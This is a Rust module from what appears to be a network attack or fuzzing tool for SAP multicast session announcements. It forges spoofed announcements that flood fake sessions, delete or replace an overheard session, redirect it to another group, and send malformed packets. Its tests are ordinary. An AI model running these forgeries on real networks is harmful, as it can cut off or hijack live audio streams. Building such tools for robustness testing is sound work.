//! Forged announcements by SAP (RFC 2974).

use super::ptp::From;
use super::{Forger, Forgery, nothing};
use std::net::{Ipv4Addr, SocketAddrV4};

pub(in crate::attack) const PORT: u16 = 9875;
const GROUP: Ipv4Addr = Ipv4Addr::new(239, 255, 255, 255);
/// Version 1, IPv4; with the bits for a deletion and for compression.
const ANNOUNCEMENT: u8 = 0x20;
const DELETION: u8 = 0x24;
const COMPRESSED: u8 = 0x21;
const TYPE: &[u8] = b"application/sdp\0";

/// Listens until an announcement was heard.
fn beside_an_announcement() -> Forgery {
    nothing(vec![(PORT, vec![GROUP])], |forger| forger.sap.is_some())
}

fn packet(kind: u8, hash: u16, origin: Ipv4Addr, payload: &[u8]) -> Vec<u8> {
    [&[kind, 0], &hash.to_be_bytes()[..], &origin.octets(), TYPE, payload].concat()
}

impl Forger {
    fn announce(&mut self, from: Ipv4Addr, packet: &[u8]) {
        self.send(SocketAddrV4::new(from, PORT), SocketAddrV4::new(GROUP, PORT), packet);
    }

    /// The attacked announcement: its header up to the description, the description, and its source
    /// address.
    fn attacked(&self) -> (Vec<u8>, String, Ipv4Addr) {
        let Some(heard) = &self.sap else { return (vec![0; 8], String::new(), self.own) };
        let start = heard.bytes.windows(4).position(|four| four == b"v=0\r").unwrap_or(heard.bytes.len());
        let text = String::from_utf8_lossy(&heard.bytes[start..]).into_owned();
        (heard.bytes[..start].to_vec(), text, *heard.from.ip())
    }
}

/// Announcements of invented sessions, from the attacker's address or from random addresses of the
/// network.
pub(in crate::attack) fn sessions(count: u64, rate: u32, from: From) -> Forgery {
    nothing(vec![], |_| true).per_second(rate, move |forger, n| {
        if n >= count {
            return;
        }
        let address = if from == From::Own { forger.own } else { Ipv4Addr::new(10, 67, 0, 100 + (n % 100) as u8) };
        let description = format!(
            "v=0\r\no=- {n} 1 IN IP4 {address}\r\ns=Invented {n}\r\nt=0 0\r\nm=audio 5004 RTP/AVP 96\r\nc=IN IP4 239.70.{}.{}/32\r\n\
             a=rtpmap:96 L24/48000/2\r\na=ptime:1\r\n",
            n / 250,
            n % 250
        );
        forger.announce(address, &packet(ANNOUNCEMENT, n as u16 + 1, address, description.as_bytes()));
    })
}

/// Deletions of the session that is announced.
pub(in crate::attack) fn deletions(rate: u32, from: From) -> Forgery {
    beside_an_announcement().per_second(rate, move |forger, _| {
        let (mut bytes, text, address) = forger.attacked();
        bytes[0] = DELETION;
        // Once with its `o=` line alone, and once with its whole description.
        let origin: String = text.split_inclusive("\r\n").take(2).collect();
        let address = if from == From::Own { forger.own } else { address };
        for payload in [&origin, &text] {
            let packet = [&bytes, payload.as_bytes()].concat();
            forger.announce(address, &packet);
        }
    })
}

/// Announcements with the origin of the session that is announced, a higher version, and another
/// group.
pub(in crate::attack) fn replacements(rate: u32, from: From) -> Forgery {
    beside_an_announcement().per_second(rate, move |forger, n| {
        let (mut bytes, text, address) = forger.attacked();
        // Another message identifier hash, as for a new version.
        bytes[2..4].copy_from_slice(&(n as u16).to_be_bytes());
        let address = if from == From::Own { forger.own } else { address };
        let packet = [&bytes, other_group(&newer(&text, n + 1)).as_bytes()].concat();
        forger.announce(address, &packet);
    })
}

/// Another session of the same name, on another group.
pub(in crate::attack) fn namesakes(rate: u32) -> Forgery {
    beside_an_announcement().per_second(rate, move |forger, _| {
        let (_, text, address) = forger.attacked();
        let own = forger.own;
        let text = other_group(&text).replace(&format!("IN IP4 {address}\r\n"), &format!("IN IP4 {own}\r\n"));
        forger.announce(own, &packet(ANNOUNCEMENT, 7, own, text.as_bytes()));
    })
}

/// Compressed announcements with random contents, too much data, or truncated data, and
/// announcements with invalid headers.
pub(in crate::attack) fn malformed(rate: u32, from: From) -> Forgery {
    /// Damaged zlib data: a stored block that is shorter than its length says; a block of an
    /// undefined type; half a header.
    const BROKEN: [&[u8]; 3] = [&[0x78, 0x9c, 1, 0xff, 0xff, 0, 0, 1, 2, 3], &[0x78, 0x9c, 7, 0, 0], &[0x78]];
    beside_an_announcement().per_second(rate, move |forger, n| {
        let (bytes, text, address) = forger.attacked();
        let noise = forger.random.some_bytes((n % 300) as usize);
        let origin = Ipv4Addr::new(bytes[4], bytes[5], bytes[6], bytes[7]);
        let mut wrong = match n % 5 {
            0 => [&[COMPRESSED, 0, 0, 9][..], &origin.octets(), BROKEN[(n / 5) as usize % 3]].concat(),
            1 => [&[COMPRESSED, 0, 0, 9][..], &origin.octets(), &[0x78, 0x9c], &noise].concat(),
            // The authentication is longer than the packet.
            2 => [&[ANNOUNCEMENT, 0xff, 0, 9][..], &origin.octets(), &noise].concat(),
            // Flagged for IPv6.
            3 => packet(ANNOUNCEMENT | 0x10, 9, origin, text.as_bytes()),
            _ => packet(ANNOUNCEMENT, 9, origin, &noise),
        };
        if n % 7 == 0 {
            wrong.truncate(wrong.len() / 2);
        }
        let address = if from == From::Own { forger.own } else { address };
        forger.announce(address, &wrong);
    })
}

/// Random bytes.
pub(in crate::attack) fn random_bytes(rate: u32) -> Forgery {
    beside_an_announcement().per_second(rate, move |forger, n| {
        let mut bytes = forger.random.some_bytes((n % 700) as usize);
        if let (0, Some(first)) = (n % 2, bytes.first_mut()) {
            *first = ANNOUNCEMENT;
        }
        forger.announce(forger.own, &bytes);
    })
}

/// The description with another version: the third word of its line `o=`.
fn newer(text: &str, by: u64) -> String {
    let line = |line: &str| match line.strip_prefix("o=").map(|rest| rest.splitn(4, ' ').collect::<Vec<_>>()) {
        Some(words) if words.len() == 4 => {
            let version = words[2].parse::<u64>().unwrap_or(0).saturating_add(by);
            format!("o={} {} {version} {}", words[0], words[1], words[3])
        }
        _ => line.to_owned(),
    };
    text.split_inclusive("\r\n").map(line).collect()
}

fn other_group(text: &str) -> String {
    text.replace("239.69.1.1", "239.70.9.9")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_newer_version_of_a_session_has_another_number() {
        let text = "v=0\r\no=- 5 6 IN IP4 10.67.0.1\r\ns=A\r\nc=IN IP4 239.69.1.1/32\r\n";
        assert_eq!(
            other_group(&newer(text, 3)),
            "v=0\r\no=- 5 9 IN IP4 10.67.0.1\r\ns=A\r\nc=IN IP4 239.70.9.9/32\r\n"
        );
    }

    #[test]
    fn an_announcement_begins_as_the_standard_says() {
        let bytes = packet(DELETION, 0x0102, Ipv4Addr::new(10, 0, 0, 1), b"v=0");
        assert_eq!(bytes, b"\x24\x00\x01\x02\x0a\x00\x00\x01application/sdp\0v=0");
    }
}
